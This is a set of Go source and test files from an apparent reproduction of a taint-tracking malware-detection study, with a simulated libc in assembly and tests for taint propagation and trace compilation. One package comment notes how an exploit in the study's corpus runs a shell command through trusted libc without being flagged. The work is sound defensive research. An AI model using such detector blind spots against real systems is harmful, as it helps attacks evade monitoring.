func runProg(t *testing.T, os *vos.OS, src string, spec vos.ProcSpec) *vos.Process {
	t.Helper()
	os.FS.Install("/bin/prog", asm.MustAssemble("/bin/prog", src))
	spec.Path = "/bin/prog"
	p, err := os.StartProcess(spec)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.Run(); err != nil {
		t.Fatalf("run: %v", err)
	}
	return p
}

func TestPrintAndStrlen(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, msg
    call print
    hlt
.data
msg: .asciz "via libc"
`, vos.ProcSpec{})
	if got := string(os.Console); got != "via libc" {
		t.Errorf("console = %q", got)
	}
}

func TestStrcpyMemcpy(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, dst
    mov ecx, src
    call strcpy
    mov ebx, dst2
    mov ecx, src
    mov edx, 3
    call memcpy
    mov ebx, dst
    call print
    mov ebx, dst2
    call print
    hlt
.data
src:  .asciz "xyz"
dst:  .space 8
dst2: .space 8
`, vos.ProcSpec{})
	if got := string(os.Console); got != "xyzxyz" {
		t.Errorf("console = %q", got)
	}
}

func TestSystemRunsShellCommand(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	// /bin/sh: prints argv[2] (the -c command) to stdout.
	os.FS.Install("/bin/sh", asm.MustAssemble("/bin/sh", `
.import "libc.so"
.text
_start:
    mov esi, [esp+4]    ; argv array
    mov ebx, [esi+8]    ; argv[2] = command
    call print
    mov ebx, 0
    call exit
`))
	p := runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, cmd
    call system
    mov ebx, 0
    call exit
.data
cmd: .asciz "echo hello"
`, vos.ProcSpec{})
	if got := string(os.Console); got != "echo hello" {
		t.Errorf("console = %q", got)
	}
	if p.ExitCode != 0 {
		t.Errorf("exit = %d", p.ExitCode)
	}
}

func TestSystemMissingShell(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	p := runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, cmd
    call system
    shr eax, 8          ; wait status -> exit code
    mov ebx, eax
    call exit
.data
cmd: .asciz "anything"
`, vos.ProcSpec{})
	// The child's execve fails (no /bin/sh installed) and it exits
	// 127, which system() returns via the wait status.
	if p.ExitCode != 127 {
		t.Errorf("exit = %d, want 127", p.ExitCode)
	}
}

func TestGethostbyname(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	os.Net.AddHost("pop.mail.yahoo.com", "216.136.173.10")
	runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, host
    call gethostbyname
    cmp eax, 0
    jz fail
    mov ebx, eax
    call print
    hlt
fail:
    mov ebx, 1
    call exit
.data
host: .asciz "pop.mail.yahoo.com"
`, vos.ProcSpec{})
	if got := string(os.Console); got != "216.136.173.10" {
		t.Errorf("console = %q", got)
	}
}

func TestGethostbynameUnknown(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	p := runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, host
    call gethostbyname
    cmp eax, 0
    jz notfound
    mov ebx, 1
    call exit
notfound:
    mov ebx, 0
    call exit
.data
host: .asciz "no.such.host.example"
`, vos.ProcSpec{})
	if p.ExitCode != 0 {
		t.Error("unknown host resolved unexpectedly")
	}
}

func TestLibcImagesValidate(t *testing.T) {
	if err := Libc().Validate(); err != nil {
		t.Errorf("libc: %v", err)
	}
	if err := Ld().Validate(); err != nil {
		t.Errorf("ld: %v", err)
	}
	if !strings.Contains(Libc().Name, "libc") {
		t.Error("libc image name wrong")
	}
}

func TestStrcmp(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	p := runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, a
    mov ecx, b
    call strcmp
    cmp eax, 0
    jnz differ
    ; equal strings: now compare different ones
    mov ebx, a
    mov ecx, c
    call strcmp
    cmp eax, 0
    jz fail
    mov ebx, 0
    call exit
differ:
fail:
    mov ebx, 1
    call exit
.data
a: .asciz "hello"
b: .asciz "hello"
c: .asciz "help"
`, vos.ProcSpec{})
	if p.ExitCode != 0 {
		t.Errorf("strcmp exit = %d", p.ExitCode)
	}
}

func TestAtoiItoaRoundTrip(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	runProg(t, os, `
.import "libc.so"
.text
_start:
    ; atoi("40712") -> itoa -> print
    mov ebx, numstr
    call atoi
    mov ebx, eax
    add ebx, 5          ; 40717
    mov ecx, outbuf
    call itoa
    mov ebx, outbuf
    call puts
    hlt
.data
numstr: .asciz "40712"
outbuf: .space 16
`, vos.ProcSpec{})
	if got := string(os.Console); got != "40717\n" {
		t.Errorf("console = %q", got)
	}
}

func TestAtoiStopsAtNonDigit(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	p := runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, s
    call atoi
    mov ebx, eax
    call exit
.data
s: .asciz "42abc"
`, vos.ProcSpec{})
	if p.ExitCode != 42 {
		t.Errorf("atoi = %d", p.ExitCode)
	}
}

func TestItoaZero(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, 0
    mov ecx, outbuf
    call itoa
    mov ebx, outbuf
    call print
    hlt
.data
outbuf: .space 8
`, vos.ProcSpec{})
	if got := string(os.Console); got != "0" {
		t.Errorf("itoa(0) printed %q", got)
	}
}

func TestNativesEdgeCases(t *testing.T) {
	// Natives called outside a process context fail safely (EAX=0).
	fns := Natives()
	c := isa.NewCPU()
	fns["gethostbyname"](c)
	if c.Regs[isa.EAX] != 0 {
		t.Error("gethostbyname without a process returned a pointer")
	}
	fns["gethostbyaddr"](c)
	if c.Regs[isa.EAX] != 0 {
		t.Error("gethostbyaddr without a process returned a pointer")
	}
}

func TestGethostbyaddrResolves(t *testing.T) {
	os := vos.New(vos.Options{})
	InstallInto(os)
	os.Net.AddHost("10.1.2.3", "backbone.example")
	runProg(t, os, `
.import "libc.so"
.text
_start:
    mov ebx, addr
    call gethostbyaddr
    cmp eax, 0
    jz fail
    mov ebx, eax
    call print
    hlt
fail:
    mov ebx, 1
    call exit
.data
addr: .asciz "10.1.2.3"
`, vos.ProcSpec{})
	if got := string(os.Console); got != "backbone.example" {
		t.Errorf("console = %q", got)
	}
}
