// Package guestlib provides the guest shared objects the corpus
// programs link against — most importantly libc.so, which supplies
// system(), gethostbyname() and small string/I-O helpers. Reproducing
// libc as a distinct, *trusted* image is load-bearing for the paper's
// results: the ElmExploit's system("/bin/cat …") goes unwarned
// because the "/bin/sh" string that reaches execve is hardcoded in
// libc.so, which Secpert trusts (paper §8.3.1), and gethostbyname is
// the routine whose data flow Harrier short-circuits (paper §7.2).
//
// Guest calling convention: arguments in EBX, ECX, EDX; result in EAX.
// Routines preserve EBX unless documented otherwise.
package guestlib

import (
	"repro/internal/asm"
	"repro/internal/image"
	"repro/internal/isa"
	"repro/internal/vos"
)

// LibcName is the image name of the guest C library.
const LibcName = "libc.so"

// LdName is the image name of the guest dynamic linker (present so
// the trusted-image set matches the paper's: libc and ld-linux).
const LdName = "ld-linux.so"

const libcSrc = `
.image "libc.so"

.text

; system(EBX=command) — fork; child executes /bin/sh -c command;
; parent waits. Returns the child's wait status in EAX.
system:
    push ebx
    mov eax, 2              ; SYS_fork
    int 0x80
    cmp eax, 0
    jnz system_parent
    ; child: execve("/bin/sh", ["/bin/sh", "-c", cmd], NULL)
    pop ebx                 ; the command string
    mov [sys_argv], sh_path
    mov [sys_argv+4], dash_c
    mov [sys_argv+8], ebx
    mov [sys_argv+12], 0
    mov ebx, sh_path
    mov ecx, sys_argv
    mov edx, 0
    mov eax, 11             ; SYS_execve
    int 0x80
    ; exec failed: _exit(127)
    mov ebx, 127
    mov eax, 1
    int 0x80
    hlt
system_parent:
    pop ebx
    push ebx
    mov ebx, eax            ; child pid
    mov ecx, sys_status
    mov edx, 0
    mov eax, 7              ; SYS_waitpid
    int 0x80
    mov eax, [sys_status]
    pop ebx
    ret

; strlen(EBX=str) -> EAX
strlen:
    push ecx
    push edx
    mov eax, 0
    mov ecx, ebx
strlen_loop:
    movb edx, [ecx]
    test edx, 0xFF
    jz strlen_done
    inc eax
    inc ecx
    jmp strlen_loop
strlen_done:
    pop edx
    pop ecx
    ret

; print(EBX=str) — write the NUL-terminated string to stdout.
print:
    push ebx
    push ecx
    push edx
    call strlen
    mov ecx, ebx            ; buf
    mov edx, eax            ; len
    mov ebx, 1              ; stdout
    mov eax, 4              ; SYS_write
    int 0x80
    pop edx
    pop ecx
    pop ebx
    ret

; memcpy(EBX=dst, ECX=src, EDX=n)
memcpy:
    push eax
    push ebx
    push ecx
    push edx
memcpy_loop:
    cmp edx, 0
    jz memcpy_done
    movb eax, [ecx]
    movb [ebx], eax
    inc ebx
    inc ecx
    dec edx
    jmp memcpy_loop
memcpy_done:
    pop edx
    pop ecx
    pop ebx
    pop eax
    ret

; strcpy(EBX=dst, ECX=src) — copies including the terminator.
strcpy:
    push eax
    push ebx
    push ecx
strcpy_loop:
    movb eax, [ecx]
    movb [ebx], eax
    test eax, 0xFF
    jz strcpy_done
    inc ebx
    inc ecx
    jmp strcpy_loop
strcpy_done:
    pop ecx
    pop ebx
    pop eax
    ret

; strcmp(EBX=a, ECX=b) -> EAX = 0 when equal, else the difference of
; the first differing bytes.
strcmp:
    push ebx
    push ecx
    push edx
    push esi
strcmp_loop:
    movb eax, [ebx]
    and eax, 0xFF
    movb edx, [ecx]
    and edx, 0xFF
    mov esi, eax
    sub esi, edx
    cmp esi, 0
    jnz strcmp_done
    cmp eax, 0              ; both ended: equal
    jz strcmp_done
    inc ebx
    inc ecx
    jmp strcmp_loop
strcmp_done:
    mov eax, esi
    pop esi
    pop edx
    pop ecx
    pop ebx
    ret

; atoi(EBX=str) -> EAX: unsigned decimal conversion, stops at the
; first non-digit.
atoi:
    push ebx
    push ecx
    mov eax, 0
atoi_loop:
    movb ecx, [ebx]
    and ecx, 0xFF
    cmp ecx, '0'
    jl atoi_done
    cmp ecx, '9'
    jg atoi_done
    mul eax, 10
    add eax, ecx
    sub eax, '0'
    inc ebx
    jmp atoi_loop
atoi_done:
    pop ecx
    pop ebx
    ret

; itoa(EBX=value, ECX=buffer) -> EAX = length. Writes the unsigned
; decimal representation plus a NUL terminator.
itoa:
    push ebx
    push ecx
    push edx
    push esi
    push edi
    mov esi, ecx            ; out pointer
    mov edi, 0              ; digit count (reversed in tmp)
    mov eax, ebx
itoa_digits:
    mov edx, eax
    mod edx, 10
    add edx, '0'
    mov ecx, itoa_tmp
    add ecx, edi
    movb [ecx], edx
    inc edi
    div eax, 10
    cmp eax, 0
    jnz itoa_digits
    ; reverse into the caller's buffer
    mov eax, edi            ; length to return
itoa_rev:
    dec edi
    mov ecx, itoa_tmp
    add ecx, edi
    movb edx, [ecx]
    movb [esi], edx
    inc esi
    cmp edi, 0
    jnz itoa_rev
    movb [esi], 0
    pop edi
    pop esi
    pop edx
    pop ecx
    pop ebx
    ret

; puts(EBX=str) — print plus a newline.
puts:
    call print
    push ebx
    mov ebx, puts_nl
    call print
    pop ebx
    ret

; exit(EBX=code) — does not return.
exit:
    mov eax, 1              ; SYS_exit
    int 0x80
    hlt

; gethostbyname(EBX=name) -> EAX = pointer to the resolved network
; address string, or 0. Host-implemented: the resolution consults the
; simulated hosts table, outside the guest's data flow — which is why
; Harrier must short-circuit it (paper §7.2).
gethostbyname:
    .native gethostbyname

; gethostbyaddr(EBX=addr) -> EAX = pointer to the resolved host name
; string, or 0.
gethostbyaddr:
    .native gethostbyaddr

.data
sh_path:     .asciz "/bin/sh"
dash_c:      .asciz "-c"
sys_argv:    .space 16
sys_status:  .space 4
hostent_buf: .space 64
itoa_tmp:    .space 16
puts_nl:     .asciz "\n"
`

const ldSrc = `
.image "ld-linux.so"
.text
; The dynamic linker's visible surface is a no-op in the simulator;
; loading and relocation are performed by the host loader. The image
; exists so that the trusted-binaries set matches the paper's.
_dl_start:
    ret
.data
_dl_ident: .asciz "ld-linux.so.2"
`

// Libc assembles a fresh libc.so image.
func Libc() *image.Image {
	return asm.MustAssemble(LibcName, libcSrc)
}

// Ld assembles a fresh ld-linux.so image.
func Ld() *image.Image {
	return asm.MustAssemble(LdName, ldSrc)
}

// Natives returns the host implementations of libc's native routines.
func Natives() map[string]func(*isa.CPU) {
	return map[string]func(*isa.CPU){
		"gethostbyname": gethostbyname,
		"gethostbyaddr": gethostbyaddr,
	}
}

// InstallInto installs libc.so and ld-linux.so into the OS filesystem
// and registers their native routines.
func InstallInto(os *vos.OS) {
	os.FS.Install(LibcName, Libc())
	os.FS.Install(LdName, Ld())
	for name, fn := range Natives() {
		os.Natives[name] = fn
	}
}

// hostentBuf locates libc's static result buffer in the calling
// process.
func hostentBuf(c *isa.CPU) (uint32, bool) {
	p, ok := c.Ctx.(*vos.Process)
	if !ok {
		return 0, false
	}
	li, ok := p.Images.Loaded(LibcName)
	if !ok {
		return 0, false
	}
	return liSymbol(li, "hostent_buf")
}

func liSymbol(li interface {
	SymbolAddr(string) (uint32, bool)
}, name string) (uint32, bool) {
	return li.SymbolAddr(name)
}

func gethostbyname(c *isa.CPU) {
	p, ok := c.Ctx.(*vos.Process)
	if !ok {
		c.Regs[isa.EAX] = 0
		return
	}
	buf, ok := hostentBuf(c)
	if !ok {
		c.Regs[isa.EAX] = 0
		return
	}
	name := c.Mem.CString(c.Regs[isa.EBX])
	addr, found := p.OS.Net.ResolveHost(name)
	if !found {
		c.Regs[isa.EAX] = 0
		return
	}
	c.Mem.WriteCString(buf, addr)
	c.Regs[isa.EAX] = buf
}

func gethostbyaddr(c *isa.CPU) {
	// Reverse resolution reuses the hosts table; for the simulator's
	// purposes the identity of the returned string is what matters.
	gethostbyname(c)
}
