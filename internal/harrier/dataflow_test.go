package harrier

import (
	"testing"

	"repro/internal/isa"
	"repro/internal/secpert"
	"repro/internal/taint"
)

// dfFixture builds a CPU wired to a Harrier dataflow hook, with two
// pre-tainted registers and a pre-tainted memory word, for direct
// per-instruction propagation tests.
type dfFixture struct {
	h    *Harrier
	cpu  *isa.CPU
	fTag taint.Tag // FILE:"f"
	sTag taint.Tag // SOCKET:"s"
	bTag taint.Tag // BINARY:"test.img" (the span's image)
}

func newDF(t *testing.T) *dfFixture {
	t.Helper()
	sec := secpert.New(secpert.DefaultConfig(), nil)
	h := New(DefaultConfig(), sec)
	cpu := isa.NewCPU()
	cpu.Shadow = taint.NewShadow(h.Store)
	cpu.Hooks.OnInstr = h.trackDataFlow
	cpu.Hooks.OnInstrData = true
	f := &dfFixture{
		h:    h,
		cpu:  cpu,
		fTag: h.Store.Of(taint.Source{Type: taint.File, Name: "f"}),
		sTag: h.Store.Of(taint.Source{Type: taint.Socket, Name: "s"}),
		bTag: h.Store.Of(taint.Source{Type: taint.Binary, Name: "test.img"}),
	}
	cpu.RegTags[isa.ESI] = f.fTag
	cpu.RegTags[isa.EDI] = f.sTag
	cpu.Regs[isa.ESI] = 0x1111
	cpu.Regs[isa.EDI] = 0x2222
	cpu.Regs[isa.ESP] = 0x00100000
	cpu.Mem.Store32(0x5000, 0xABCD)
	cpu.Shadow.SetWord(0x5000, f.fTag)
	return f
}

// run executes the given instructions at a fresh span.
func (f *dfFixture) run(t *testing.T, instrs ...isa.Instr) {
	t.Helper()
	instrs = append(instrs, isa.Instr{Op: isa.HLT})
	f.cpu.Code = isa.NewCodeMap()
	f.cpu.Code.Add(isa.NewSpan(0x1000, "test.img", instrs, nil))
	f.cpu.EIP = 0x1000
	f.cpu.Halted = false
	for !f.cpu.Halted {
		if err := f.cpu.Step(); err != nil {
			t.Fatal(err)
		}
	}
}

func (f *dfFixture) regTag(r isa.Reg) taint.Tag { return f.cpu.RegTags[r] }

func TestDFMovRegReg(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.R(isa.ESI)})
	if f.regTag(isa.EAX) != f.fTag {
		t.Error("mov reg,reg did not copy tag")
	}
}

func TestDFMovImmIsBinary(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(4)})
	if f.regTag(isa.EAX) != f.bTag {
		t.Errorf("immediate tag = %s, want BINARY", f.h.Store.String(f.regTag(isa.EAX)))
	}
}

func TestDFMovMemLoadStore(t *testing.T) {
	f := newDF(t)
	// Load tainted word, store to a new location.
	f.run(t,
		isa.Instr{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Mem(0x5000)},
		isa.Instr{Op: isa.MOV, A: isa.Mem(0x6000), B: isa.R(isa.EAX)},
	)
	if f.cpu.Shadow.GetWord(0x6000) != f.fTag {
		t.Error("store did not carry tag")
	}
}

func TestDFAluUnion(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.ADD, A: isa.R(isa.ESI), B: isa.R(isa.EDI)})
	got := f.regTag(isa.ESI)
	want := f.h.Store.Union(f.fTag, f.sTag)
	if got != want {
		t.Errorf("add union = %s", f.h.Store.String(got))
	}
}

func TestDFAluImmAddsBinary(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.ADD, A: isa.R(isa.ESI), B: isa.Imm(1)})
	if f.regTag(isa.ESI) != f.h.Store.Union(f.fTag, f.bTag) {
		t.Error("add imm did not union BINARY")
	}
}

func TestDFZeroingIdiomsClear(t *testing.T) {
	for _, op := range []isa.Op{isa.XOR, isa.SUB} {
		f := newDF(t)
		f.run(t, isa.Instr{Op: op, A: isa.R(isa.ESI), B: isa.R(isa.ESI)})
		if f.regTag(isa.ESI) != taint.Empty {
			t.Errorf("%v r,r left tag %s", op, f.h.Store.String(f.regTag(isa.ESI)))
		}
	}
}

func TestDFXorDifferentRegsUnions(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.XOR, A: isa.R(isa.ESI), B: isa.R(isa.EDI)})
	if f.regTag(isa.ESI) != f.h.Store.Union(f.fTag, f.sTag) {
		t.Error("xor r1,r2 should union, not clear")
	}
}

func TestDFIncDecKeepAndAddBinary(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.INC, A: isa.R(isa.ESI)})
	if f.regTag(isa.ESI) != f.h.Store.Union(f.fTag, f.bTag) {
		t.Error("inc tag wrong")
	}
}

func TestDFNotNegPreserve(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.NOT, A: isa.R(isa.ESI)})
	if f.regTag(isa.ESI) != f.fTag {
		t.Error("not changed tag")
	}
}

func TestDFPushPop(t *testing.T) {
	f := newDF(t)
	f.run(t,
		isa.Instr{Op: isa.PUSH, A: isa.R(isa.ESI)},
		isa.Instr{Op: isa.POP, A: isa.R(isa.EBX)},
	)
	if f.regTag(isa.EBX) != f.fTag {
		t.Error("push/pop lost tag")
	}
}

func TestDFCallPushesUntaintedReturn(t *testing.T) {
	f := newDF(t)
	// Taint the stack slot first; CALL must clear it for the return
	// address.
	f.cpu.Shadow.SetWord(f.cpu.Regs[isa.ESP]-4, f.sTag)
	f.run(t,
		isa.Instr{Op: isa.CALL, A: isa.Imm(0x1000 + 3*isa.InstrSize)},
		isa.Instr{Op: isa.NOP}, // return lands here
		isa.Instr{Op: isa.HLT},
		isa.Instr{Op: isa.RET}, // the called routine
	)
	// After ret, the slot below ESP held the (untainted) return addr.
	if f.cpu.Shadow.GetWord(f.cpu.Regs[isa.ESP]-4) != taint.Empty {
		t.Error("return address slot tainted")
	}
}

func TestDFCPUIDHardware(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.CPUID})
	for _, r := range []isa.Reg{isa.EAX, isa.EBX, isa.ECX, isa.EDX} {
		if !f.h.Store.Has(f.regTag(r), taint.Hardware) {
			t.Errorf("cpuid %v missing HARDWARE", r)
		}
	}
}

func TestDFRDTSCHardware(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.RDTSC})
	if !f.h.Store.Has(f.regTag(isa.EAX), taint.Hardware) ||
		!f.h.Store.Has(f.regTag(isa.EDX), taint.Hardware) {
		t.Error("rdtsc outputs missing HARDWARE")
	}
}

func TestDFLEAUnionsBase(t *testing.T) {
	f := newDF(t)
	f.run(t, isa.Instr{Op: isa.LEA, A: isa.R(isa.EAX), B: isa.MemBase(isa.ESI, 4)})
	got := f.regTag(isa.EAX)
	if !f.h.Store.Has(got, taint.File) || !f.h.Store.Has(got, taint.Binary) {
		t.Errorf("lea tag = %s", f.h.Store.String(got))
	}
}

func TestDFMovbByteGranularity(t *testing.T) {
	f := newDF(t)
	// Taint one byte; movb of a *different* byte must stay clean.
	f.cpu.Shadow.Set(0x7000, f.fTag)
	f.run(t,
		isa.Instr{Op: isa.MOVB, A: isa.R(isa.EAX), B: isa.Mem(0x7001)},
	)
	if f.regTag(isa.EAX) != taint.Empty {
		t.Error("movb picked up a neighbouring byte's tag")
	}
	f2 := newDF(t)
	f2.cpu.Shadow.Set(0x7000, f2.fTag)
	f2.run(t,
		isa.Instr{Op: isa.MOVB, A: isa.R(isa.EAX), B: isa.Mem(0x7000)},
		isa.Instr{Op: isa.MOVB, A: isa.Mem(0x7005), B: isa.R(isa.EAX)},
	)
	if f2.cpu.Shadow.Get(0x7005) != f2.fTag {
		t.Error("movb store lost tag")
	}
	if f2.cpu.Shadow.Get(0x7006) != taint.Empty {
		t.Error("movb store bled into the next byte")
	}
}

func TestDFControlFlowNotTracked(t *testing.T) {
	// CMP/TEST and jumps must not move any taint (implicit flows are
	// out of scope, paper §7.3 footnote 7).
	f := newDF(t)
	f.run(t,
		isa.Instr{Op: isa.CMP, A: isa.R(isa.ESI), B: isa.R(isa.EDI)},
		isa.Instr{Op: isa.TEST, A: isa.R(isa.ESI), B: isa.R(isa.EDI)},
	)
	if f.regTag(isa.ESI) != f.fTag || f.regTag(isa.EDI) != f.sTag {
		t.Error("cmp/test modified tags")
	}
}

func TestDFStatsCount(t *testing.T) {
	f := newDF(t)
	f.run(t,
		isa.Instr{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(1)},
		isa.Instr{Op: isa.NOP},
	)
	// Instructions counted: only the mov — nop and the closing hlt have
	// no tracked dataflow, so the opcode filter skips the hook for them.
	if f.h.Stats().Instructions != 1 {
		t.Errorf("instr stat = %d", f.h.Stats().Instructions)
	}
}
