package harrier_test

import (
	"fmt"

	"repro/internal/harrier"
	"repro/internal/isa"
)

// ExampleInstrumentationPlan reproduces the shape of paper Figure 5:
// the analysis calls Harrier inserts around a code fragment.
func ExampleInstrumentationPlan() {
	span := isa.NewSpan(0x1000, "a.out", []isa.Instr{
		{Op: isa.MOV, A: isa.R(isa.EAX), B: isa.Imm(5)},
		{Op: isa.INT, A: isa.Imm(0x80)},
	}, nil)
	fmt.Print(harrier.InstrumentationPlan(span))
	// Output:
	// Call Collect_BB_Frequency
	// Call Track_DataFlow
	// mov eax, 0x5
	// Call Monitor_SystemCalls
	// int 0x80
}
