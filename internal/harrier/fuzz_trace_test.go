package harrier

import (
	"errors"
	"testing"

	"repro/internal/isa"
)

// FuzzTraceApply is the trace tier's differential oracle at the
// multi-block level: a pseudo-random program with conditional and
// unconditional branches runs once under the interpreter tier and once
// with superblock traces compiled at every leader, from the same
// concrete and taint state against one shared tag store. Both runs are
// driven under the same step budget the scheduler would impose, so a
// trace's budget exits, side exits and fault exits all land on the
// comparison path. Registers, EIP, flags, retired steps and the fault
// verdict must always match; register tags and the shadow window must
// match whenever the program did not die mid-flight.
func FuzzTraceApply(f *testing.F) {
	// A countdown loop: mov ecx,8; dec ecx; jnz back — the classic
	// backward-predicted superblock with one final mispredict.
	f.Add([]byte{
		0x00, 0x09, 0x48, 0x08, // mov ecx, 8<<2... (generator-decoded)
		0x10, 0x01, 0x00, 0x00,
		0x19, 0x00, 0x00, 0x01,
	})
	f.Add([]byte{0x02, 0x00, 0x00, 0x10, 0x18, 0x00, 0x00, 0x00})       // mov + jmp
	f.Add([]byte{0x05, 0x09, 0x00, 0x20, 0x1a, 0x05, 0x00, 0x08})       // alu + jz fwd
	f.Add([]byte{0x14, 0x03, 0x00, 0x00, 0x15, 0x01, 0x00, 0x00})       // push/pop
	f.Add([]byte{0x09, 0x11, 0x00, 0x00, 0x16, 0x00, 0x00, 0x00, 0x1b, 0x02, 0x00, 0x00}) // div + cpuid + jcc

	f.Fuzz(func(t *testing.T, data []byte) {
		span := buildTraceFuzzSpan(data)
		h := New(Config{Dataflow: true}, nil)

		// Compile a trace at every leader that yields one and install it,
		// exactly as the tier state machine would after promotion: the
		// head must be the block's real compiled summary — the budget
		// fallback applies it when a quantum can't fit the first block.
		installed := 0
		for i := range span.Instrs {
			if span.BBLeader[i] != i {
				continue
			}
			sum, ok := compileBlock(h.Store, span, i, h.binTag(span.Image), h.hwTag)
			if !ok {
				continue // unsummarizable blocks never reach the trace tier
			}
			head := &blockSummary{
				Summary: *sum,
				owner:   h,
				ctr:     new(int64),
				key:     bbKey{span.Image, span.Addr(i)},
			}
			if tr := h.compileTrace(span, i, head); tr != nil {
				span.SetBBSummary(i, tr)
				installed++
			}
		}
		if installed == 0 {
			return // nothing traceable: the comparison would be vacuous
		}

		const bound = 4096
		cA := newFuzzCPU(span, h.Store, data)
		cA.Hooks.OnInstr = h.trackDataFlow
		cA.Hooks.OnInstrData = true
		faultA := runBudgeted(cA, span, bound)

		cB := newFuzzCPU(span, h.Store, data)
		cB.Hooks.OnInstr = h.trackDataFlow
		cB.Hooks.OnInstrData = true
		cB.Hooks.OnBBSummary = h.onBBSummary
		faultB := runBudgeted(cB, span, bound)

		if cA.Regs != cB.Regs || cA.EIP != cB.EIP || cA.Steps != cB.Steps ||
			cA.ZF != cB.ZF || cA.LT != cB.LT || faultA != faultB {
			t.Fatalf("concrete divergence:\n  interp: regs %v eip %#x steps %d zf %v lt %v fault %v\n"+
				"  trace:  regs %v eip %#x steps %d zf %v lt %v fault %v",
				cA.Regs, cA.EIP, cA.Steps, cA.ZF, cA.LT, faultA,
				cB.Regs, cB.EIP, cB.Steps, cB.ZF, cB.LT, faultB)
		}
		if faultA {
			return // over-applied flows are unobservable after a fault
		}
		if cA.RegTags != cB.RegTags {
			t.Fatalf("register tag divergence: interp %v, trace %v", cA.RegTags, cB.RegTags)
		}
		for addr := uint32(0); addr < 0x3000; addr++ {
			if ta, tb := cA.Shadow.Get(addr), cB.Shadow.Get(addr); ta != tb {
				t.Fatalf("shadow divergence at %#x: interp tag%d, trace tag%d", addr, ta, tb)
			}
		}
	})
}

// traceFuzzOps extends the straight-line generator's op set with the
// control transfers the trace compiler chains across (or side-exits
// through): every conditional jump plus JMP.
var traceFuzzOps = [...]isa.Op{
	isa.MOV, isa.MOVB, isa.LEA,
	isa.ADD, isa.SUB, isa.AND, isa.OR, isa.XOR,
	isa.MUL, isa.DIVOP, isa.MODOP, isa.SHL, isa.SHR,
	isa.NOT, isa.NEG, isa.INC, isa.DEC,
	isa.CMP, isa.TEST, isa.NOP,
	isa.PUSH, isa.POP,
	isa.CPUID, isa.RDTSC,
	isa.JMP, isa.JZ, isa.JNZ, isa.JL, isa.JLE, isa.JG, isa.JGE,
}

// buildTraceFuzzSpan decodes 4 bytes per instruction into a
// multi-block program ending in HLT. Branch targets land on real
// instruction slots (occasionally one past the end, exercising the
// out-of-span exit), so programs form loops, diamonds and skips.
func buildTraceFuzzSpan(data []byte) *isa.Span {
	n := len(data) / 4
	if n > 24 {
		n = 24
	}
	var instrs []isa.Instr
	for k := 0; k < n; k++ {
		b0, b1, b2, b3 := data[k*4], data[k*4+1], data[k*4+2], data[k*4+3]
		op := traceFuzzOps[int(b0)%len(traceFuzzOps)]
		in := isa.Instr{Op: op}
		if op.IsControlTransfer() {
			target := uint32(0x10000) + uint32(int(b1)%(n+1))*isa.InstrSize
			in.A = isa.Imm(target)
		} else {
			in.A = fuzzOperand(b1, b3)
			in.B = fuzzOperand(b2, b3>>1)
		}
		instrs = append(instrs, in)
	}
	instrs = append(instrs, isa.Instr{Op: isa.HLT})
	return isa.NewSpan(0x10000, "fuzz", instrs, nil)
}

// runBudgeted drives the CPU the way vos.Run does: each Step sees the
// remaining quantum in TraceBudget, so a trace can never retire past
// the bound. After the bound it finishes the current block — across
// tiers, taint state is only comparable at block boundaries, because
// the summary tier applies a block's whole transfer atomically at
// entry (a quantum expiring mid-block leaves it legitimately ahead of
// the interpreter until the block completes, just as under vos.Run).
func runBudgeted(c *isa.CPU, span *isa.Span, bound uint64) (faulted bool) {
	step := func() (stop, faulted bool) {
		err := c.Step()
		if err == nil {
			return false, false
		}
		var f *isa.Fault
		return true, errors.As(err, &f) // non-fault err is a clean HLT
	}
	for c.Steps < bound {
		c.TraceBudget = int(bound - c.Steps)
		if stop, faulted := step(); stop {
			return faulted
		}
	}
	c.TraceBudget = 0
	for extra := 0; extra < 64; extra++ {
		if !span.Contains(c.EIP) {
			break
		}
		if idx := span.Index(c.EIP); span.BBLeader[idx] == idx {
			break // block boundary: comparison-valid stop
		}
		if stop, faulted := step(); stop {
			return faulted
		}
	}
	return false
}
