package harrier

import (
	"fmt"
	"strings"

	"repro/internal/isa"
	"repro/internal/taint"
)

// This file is the block-summary compiler of the tiered taint engine.
// A summary is the taint transfer function of one basic block: a
// compact op list over abstract slots (register tags, shadow words)
// that applies the block's entire Track_DataFlow effect in one call,
// replacing one Hooks.OnInstr dispatch per data-moving instruction.
//
// The key obstacle is that the interpreter resolves memory-operand
// addresses against *mid-block* register values, while a summary runs
// once at block entry. The compiler therefore carries a tiny symbolic
